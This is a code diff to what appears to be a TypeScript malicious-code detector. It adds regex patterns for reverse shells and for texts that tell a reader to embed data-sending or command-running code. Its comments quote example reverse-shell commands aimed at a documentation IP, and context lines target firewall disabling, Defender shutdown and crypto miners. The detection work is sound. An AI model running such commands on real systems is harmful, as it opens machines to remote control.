@@ -57,6 +57,23 @@ const PATTERNS: AnchoredPattern[] = [
   { re: /\bipconfig["',\s]{1,6}\/release\b|\bnetsh\s{1,3}advfirewall\s{1,3}set\s{1,3}\w{1,20}\s{1,3}state\s{1,3}off\b|\bset-mppreference\s{1,3}-disablerealtimemonitoring\s{1,3}\$?(?:true|1)\b/g, needs: [['ipconfig', 'advfirewall', 'disablerealtimemonitoring']] },
   // A crypto miner fetched and started.
   { re: /\b(?:xmrig|cryptomine|coinhive|minerd|cpuminer)\b[^]{0,200}?\b(?:nohup|subprocess|os\.system|popen|\.\/|start-process|exec)/g, needs: [['xmrig', 'cryptomine', 'coinhive', 'minerd', 'cpuminer']] },
+  // A reverse shell: the process's input and output handed to a remote socket, or a shell told to
+  // talk to one ("bash -i >& /dev/tcp/203.0.113.5/4444 0>&1", "nc -e /bin/sh host 4444").
+  {
+    re: new RegExp(`${NOT_WARNED}(?:\\bos\\.dup2\\(\\s{0,3}\\w{1,20}\\.fileno\\(\\)\\s{0,3},\\s{0,3}0\\s{0,3}\\)[^]{0,200}?(?:/bin/(?:ba|z)?sh|cmd\\.exe|pty\\.spawn)|\\b(?:ba)?sh\\s{1,3}-i\\s{1,3}>&\\s{0,3}/dev/tcp/|\\b(?:nc|ncat|netcat)\\s{1,3}(?:-[a-z]{1,3}\\s{1,3}){0,3}-e\\s{1,3}/bin/(?:ba)?sh\\b)`, 'g'),
+    needs: [['dup2', '/dev/tcp/', '-e /bin/']],
+  },
+  // Code a text tells its reader to work into "your solution" that reaches out of the program: an
+  // upload, a raw socket, mail, a shell command, a request loop, a file encrypted with a fetched
+  // key. Documentation says "add the following code to your settings" too, but its snippet does
+  // not send data away or run commands; the directive and the payload together are the attack.
+  {
+    re: /\b(?:integrat\w{1,4}|incorporat\w{1,4}|meld\w{0,3}|fus(?:e|es|ed|ing)|infus\w{1,3}|merg(?:e|es|ed|ing)|assimilat\w{1,3}|utili[sz]\w{1,3}|employ\w{0,3}|leverag\w{1,3}|includ\w{1,4}|inclusion|embed\w{0,4}|inject\w{0,3}|blend\w{0,3}|weav\w{1,3}|append\w{0,3}|add(?:s|ed|ing|ition)?|insert\w{0,3}|us(?:e|es|ing)|implement\w{0,3}|presence|manifestation|embod(?:y|ies|ying)|supplement\w{0,3}|enrich\w{0,3}|featur(?:e|es|ing))\b[^.!?\n]{0,40}?\b(?:following|subsequent|below|ensuing|provided|attached) (?:code|snippet|script)(?: (?:snippet|block|excerpt|section|fragment|segment|piece|sample|lines?))?\b[^]{0,520}?(?:requests\.(?:post|put)\(|storbinary\(|sendall\(|smtplib|\bcurl\s[^\n]{0,40}-[fdt]\s|\brsync\s[^\n]{0,60}@|\bscp\s|socket\.socket\(|os\.system\(|subprocess\.\w{1,12}\(|bluetooth|scapy|cookies=\w|\bexec\(|aes\.new\(|\bcipher\(|multiprocessing\.process\(|while true:)/g,
+    needs: [
+      ['following code', 'subsequent code', 'below code', 'ensuing code', 'provided code', 'attached code', 'following snippet', 'subsequent snippet', 'below snippet', 'ensuing snippet', 'provided snippet', 'attached snippet', 'following script', 'subsequent script', 'below script', 'provided script', 'attached script'],
+      ['requests.post', 'requests.put', 'storbinary', 'sendall', 'smtplib', 'curl', 'rsync', 'scp', 'socket.socket', 'os.system', 'subprocess.', 'bluetooth', 'scapy', 'cookies=', 'exec(', 'aes.new', 'cipher(', 'multiprocessing.process', 'while true'],
+    ],
+  },
 ];
 
 /** Code that wipes the system, runs what it downloads, sends local secrets away or cuts the machine off. */
@@ -69,7 +86,7 @@ export const maliciousCodeDetector = gatedPatterns(
     label: 'malicious code',
     view: 'lower',
     score: 0.85,
-    maxMatchLength: 520,
+    maxMatchLength: 720,
     description: 'Code that wipes the system, runs what it downloads, sends local secrets away or cuts the machine off.',
   },
   PATTERNS,
